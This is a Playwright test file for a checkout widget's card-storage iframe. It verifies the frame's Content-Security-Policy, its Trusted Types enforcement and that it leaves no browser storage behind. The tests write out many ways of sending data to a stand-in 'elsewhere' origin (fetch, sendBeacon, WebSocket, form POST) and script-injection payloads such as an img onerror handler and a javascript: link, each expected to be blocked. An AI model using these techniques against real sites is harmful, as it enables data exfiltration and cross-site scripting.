/** What the frame itself cannot do, should a foreign script ever run in it, and what it leaves behind. */
import { en } from "../../packages/widget/src/frame/i18n/en.ts";
import { tr } from "../../packages/widget/src/frame/i18n/tr.ts";
import { expectAccessible } from "./fixtures/axe.ts";
import { expect, test } from "./fixtures/index.ts";
import { startSite } from "./fixtures/site.ts";
import { CARDS } from "./fixtures/test-cards.ts";
import { cardRows, fillIn, openForm } from "./shopper.ts";

test("its policy is the one that was decided", async ({ page, stack }) => {
  const response = await page.goto(`${stack.cardsOrigin}/frame`);
  expect(response?.headers()["content-security-policy"]).toBe(
    [
      "default-src 'none'",
      "script-src 'self'",
      "style-src 'self'",
      "connect-src 'self'",
      "img-src 'self' data:",
      `frame-ancestors ${stack.shopOrigin}`,
      "form-action 'none'",
      "base-uri 'none'",
      "require-trusted-types-for 'script'",
    ].join("; "),
  );
});

test("opened by itself, it says what it is", async ({ page, stack }) => {
  await page.goto(`${stack.cardsOrigin}/frame`);
  await expect(page.getByText(new RegExp(`${tr.notices.partOfShop}|${en.notices.partOfShop}`))).toBeVisible();
  await expectAccessible(page);
});

test("nothing can be sent from it to another origin", async ({ checkout, leaks }) => {
  leaks.expectCspViolation(/./);
  const elsewhere = await startSite("elsewhere");
  const { frame } = await checkout();
  await expect(frame.getByText(tr.list.emptyTitle)).toBeVisible();

  const stopped = await frame.locator("body").evaluate(async (body, origin) => {
    const attempts: [directive: string, send: () => unknown][] = [
      ["connect-src", () => fetch(`${origin}/fetch`)],
      ["connect-src", () => fetch(`${origin}/no-cors`, { mode: "no-cors", method: "POST", body: "x" })],
      ["connect-src", () => fetch(`${origin}/keepalive`, { method: "POST", body: "x", keepalive: true })],
      ["connect-src", () => navigator.sendBeacon(`${origin}/beacon`, "x")],
      [
        "connect-src",
        () => {
          const request = new XMLHttpRequest();
          request.open("POST", `${origin}/xhr`);
          request.send("x");
        },
      ],
      ["connect-src", () => new EventSource(`${origin}/events`)],
      ["connect-src", () => new WebSocket(origin.replace("http", "ws"))],
      ["img-src", () => (new Image().src = `${origin}/image`)],
      ["media-src", () => (new Audio().src = `${origin}/audio`)],
      ["script-src-elem", () => import(`${origin}/module.js`)],
      ...(
        [
          ["style-src-elem", "link", { rel: "stylesheet", href: `${origin}/style` }],
          ["frame-src", "iframe", { src: `${origin}/frame` }],
          ["img-src", "link", { rel: "preload", as: "image", href: `${origin}/preload` }],
        ] as const
      ).map(([directive, name, attributes]): [string, () => unknown] => [
        directive,
        () => body.append(Object.assign(document.createElement(name), attributes)),
      ]),
    ];
    const results: { directive: string; stopped: string }[] = [];
    for (const [directive, send] of attempts) {
      const { promise, resolve } = Promise.withResolvers<string>();
      document.addEventListener(
        "securitypolicyviolation",
        ({ effectiveDirective }) => resolve(effectiveDirective),
        { once: true },
      );
      setTimeout(() => resolve("nothing"), 2000);
      try {
        void Promise.resolve(send()).catch(() => undefined);
      } catch {
        // Refused at once; the report comes all the same.
      }
      results.push({ directive, stopped: await promise });
    }
    return results;
  }, elsewhere.origin);

  for (const { directive, stopped: by } of stopped) expect(by).toBe(directive);
  expect(elsewhere.received).toEqual([]);
  await elsewhere.stop();
});

test("a form in it leads nowhere", async ({ checkout, leaks, page }) => {
  leaks.expectCspViolation(/form-action 'none'/);
  // The shop's own policy stops it, too.
  leaks.expectCspViolation(/frame-src/);
  const elsewhere = await startSite("elsewhere");
  const { frame } = await checkout();
  await frame.locator("body").evaluate((body, origin) => {
    const form = Object.assign(document.createElement("form"), { action: `${origin}/form`, method: "post" });
    body.append(form);
    setTimeout(() => form.submit());
  }, elsewhere.origin);
  await expect.poll(() => page.frames()[1]?.url()).toBe("chrome-error://chromewebdata/");
  expect(elsewhere.received).toEqual([]);
  await elsewhere.stop();
});

test("no text becomes script or style in it", async ({ checkout, leaks }) => {
  leaks.expectCspViolation(/./);
  const { frame } = await checkout();
  await expect(frame.getByText(tr.list.emptyTitle)).toBeVisible();

  const outcomes = await frame.locator("body").evaluate(async (body) => {
    // What a test evaluates may use eval; what runs after it may not.
    await new Promise((resolve) => setTimeout(resolve));
    const run = "window.hasRun = true";
    const element = (name: string) => body.appendChild(document.createElement(name));
    const attempts: Record<string, () => unknown> = {
      eval: () => Reflect.apply(Reflect.get(window, "eval"), window, [run]),
      Function: () => Reflect.construct(Function, [run]),
      timeout: () => Reflect.apply(setTimeout, window, [run]),
      innerHTML: () => (element("div").innerHTML = `<img src="x:" onerror="${run}">`),
      insertAdjacentHTML: () => element("div").insertAdjacentHTML("beforeend", "<p>"),
      "document.write": () => document.write(`<script>${run}</script>`),
      srcdoc: () => (document.createElement("iframe").srcdoc = `<script>${run}</script>`),
      "script text": () => (document.createElement("script").textContent = run),
      "script address": () => (document.createElement("script").src = `data:text/javascript,${run}`),
      "DOM parser": () => new DOMParser().parseFromString("<p>", "text/html"),
      worker: () => new Worker("data:text/javascript,1"),
    };
    return Object.entries(attempts).map(([name, attempt]) => {
      try {
        attempt();
        return `${name}: done`;
      } catch (error) {
        return `${name}: ${error instanceof Error ? error.name : "refused"}`;
      }
    });
  });
  expect(outcomes).toEqual([
    "eval: EvalError",
    "Function: EvalError",
    "timeout: TypeError",
    "innerHTML: TypeError",
    "insertAdjacentHTML: TypeError",
    "document.write: TypeError",
    "srcdoc: TypeError",
    "script text: TypeError",
    "script address: TypeError",
    "DOM parser: TypeError",
    "worker: TypeError",
  ]);

  const color = await frame.locator("body").evaluate((body) => {
    const style = document.createElement("style");
    style.textContent = "body { color: rgb(1, 2, 3) }";
    body.append(style);
    body.setAttribute("style", "color: rgb(1, 2, 3)");
    const link = Object.assign(document.createElement("a"), { href: "javascript:window.hasRun = true" });
    body.append(link);
    link.click();
    return getComputedStyle(body).color;
  });
  expect(color).not.toBe("rgb(1, 2, 3)");
  expect(
    await frame.locator("body").evaluate(() => Reflect.get(window, "hasRun") as unknown),
  ).toBeUndefined();
});

test("it leaves nothing in the browser", async ({ checkout, context, stack }) => {
  const { frame } = await checkout();
  const form = await openForm(frame);
  await fillIn(form, { number: CARDS.akbankMastercard.number, label: "Ev" });
  await form.save.click();
  await expect(cardRows(frame)).toHaveCount(1);

  const kept = await frame.locator("body").evaluate(async () => ({
    local: localStorage.length,
    session: sessionStorage.length,
    databases: await indexedDB.databases(),
    caches: "caches" in window ? await caches.keys() : [],
    cookie: document.cookie,
    name: window.name,
    history: history.state as unknown,
    workers: "serviceWorker" in navigator ? (await navigator.serviceWorker.getRegistrations()).length : 0,
  }));
  expect(kept).toEqual({
    local: 0,
    session: 0,
    databases: [],
    caches: [],
    cookie: "",
    name: "",
    history: null,
    workers: 0,
  });
  expect(await context.cookies(stack.cardsOrigin)).toEqual([]);
});
